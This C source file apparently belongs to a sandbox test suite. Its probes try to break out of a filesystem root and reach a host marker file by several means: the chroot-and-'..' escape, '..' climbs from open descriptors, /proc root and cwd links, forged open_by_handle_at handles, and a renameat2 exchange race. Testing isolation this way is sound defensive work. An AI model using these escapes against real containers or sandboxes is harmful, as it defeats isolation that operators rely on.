// Ways out of the root, to a file of the host that the test has put outside it.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

// Returns whether `path`, without its first slash, exists below a directory. It is the marker.
static int sees(int directory, const char* path) {
  struct stat status;
  return fstatat(directory, path + strspn(path, "/"), &status, 0) == 0;
}

// Returns the root of a directory: as far up as ".." leads.
static int climb(int directory) {
  for (int i = 0; i < 64; i++) {
    const int above = openat(directory, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (above == -1) break;
    directory = above;
  }
  return directory;
}

// chroot-escape PATH: the oldest way out: a chroot below the working directory, which is then outside the root.
static enum verdict chroot_escape(char** arguments) {
  if (arguments[0] == NULL) return not_tried("which file?");
  mkdir("/tmp/jail", 0700);
  const int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (chroot("/tmp/jail") == -1) return refused(errno, "chroot");
  if (fchdir(root) == -1) return refused(errno, "fchdir");
  const int top = climb(open(".", O_PATH | O_DIRECTORY | O_CLOEXEC));
  if (sees(top, arguments[0])) return succeeded("%s by chroot and ..", arguments[0]);
  return refused(ENOENT, "%s by chroot and ..", arguments[0]);
}

// parent PATH DIRECTORY...: looks for the file through .. from each of the directories, and from each open descriptor.
static enum verdict parent(char** arguments) {
  if (arguments[0] == NULL) return not_tried("which file?");
  for (char** directory = arguments + 1; *directory != NULL; directory++) {
    const int fd = open(*directory, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd != -1 && sees(climb(fd), arguments[0])) return succeeded("%s by .. from %s", arguments[0], *directory);
  }
  for (int fd = 0; fd < 1024; fd++) {
    struct stat status;
    if (fstat(fd, &status) == -1 || !S_ISDIR(status.st_mode)) continue;
    if (sees(climb(fd), arguments[0])) return succeeded("%s by .. from descriptor %d", arguments[0], fd);
  }
  return refused(ENOENT, "%s by ..", arguments[0]);
}

static int same_file(const struct stat* a, const struct stat* b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

// Looks for links in /proc that lead to another root than our own.
static enum verdict foreign_roots(char** arguments) {
  const char* marker = arguments[0];
  struct stat own, other;
  stat("/", &own);
  DIR* processes = opendir("/proc");
  if (processes == NULL) return not_tried("no /proc");
  int error = ENOENT;
  for (struct dirent* entry; (entry = readdir(processes)) != NULL;) {
    char path[PATH_MAX];
    if (strspn(entry->d_name, "0123456789") == 0) continue;
    snprintf(path, sizeof path, "/proc/%s/root", entry->d_name);
    if (stat(path, &other) == -1) {
      error = errno;
    } else if (!same_file(&own, &other)) {
      return succeeded("%s is another root", path);
    }
    snprintf(path, sizeof path, "/proc/%s/cwd", entry->d_name);
    const int directory = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (directory == -1) continue;
    if (marker != NULL && sees(climb(directory), marker)) return succeeded("%s by %s", marker, path);
    if (fstat(climb(directory), &other) == 0 && !same_file(&own, &other)) return succeeded("%s is outside", path);
  }
  return refused(error, "roots of other processes");
}

// handle: open_by_handle_at needs no path, so it could find files outside the visible tree.
static enum verdict handle(char** arguments) {
  (void)arguments;
  struct {
    struct file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
  } found = {.handle.handle_bytes = MAX_HANDLE_SZ};
  int mount_id;
  const char* const places[] = {"/etc/resolv.conf", "/mnt", "/etc/passwd", "/"};
  int error = EOPNOTSUPP;
  for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
    found.handle.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, places[i], &found.handle, &mount_id, 0) == -1) {
      memset(&found, 0, sizeof found);
      found.handle.handle_bytes = 8;
      found.handle.handle_type = 1;
    }
    const int directory = open(places[i], O_RDONLY | O_CLOEXEC);
    const int fd = open_by_handle_at(directory, &found.handle, O_PATH);
    if (fd != -1) return succeeded("a file by its handle, %s", places[i]);
    error = errno;
    if (error == ESTALE) return succeeded("the handle was looked up, %s", places[i]);
  }
  return refused(error, "open_by_handle_at");
}

// exchange A B SECONDS: swaps two names as fast as it can.
static enum verdict exchange(char** arguments) {
  if (arguments[0] == NULL || arguments[1] == NULL || arguments[2] == NULL) return not_tried("three arguments");
  const time_t until = time(NULL) + atoi(arguments[2]);
  long count = 0;
  do {
    if (syscall(SYS_renameat2, AT_FDCWD, arguments[0], AT_FDCWD, arguments[1], 2L) == -1)
      return refused(errno, "exchange of %s and %s", arguments[0], arguments[1]);
    count++;
  } while (count % 1024 != 0 || time(NULL) < until);
  return succeeded("%ld exchanges", count);
}

const struct probe escape_probes[] = {
    {"chroot-escape", "PATH", chroot_escape, 0},   {"parent", "PATH DIRECTORY...", parent, 0},
    {"foreign-roots", "[PATH]", foreign_roots, 1}, {"file-handle", "", handle, 1},
    {"exchange", "A B SECONDS", exchange, 0},      {NULL, NULL, NULL, 0}};
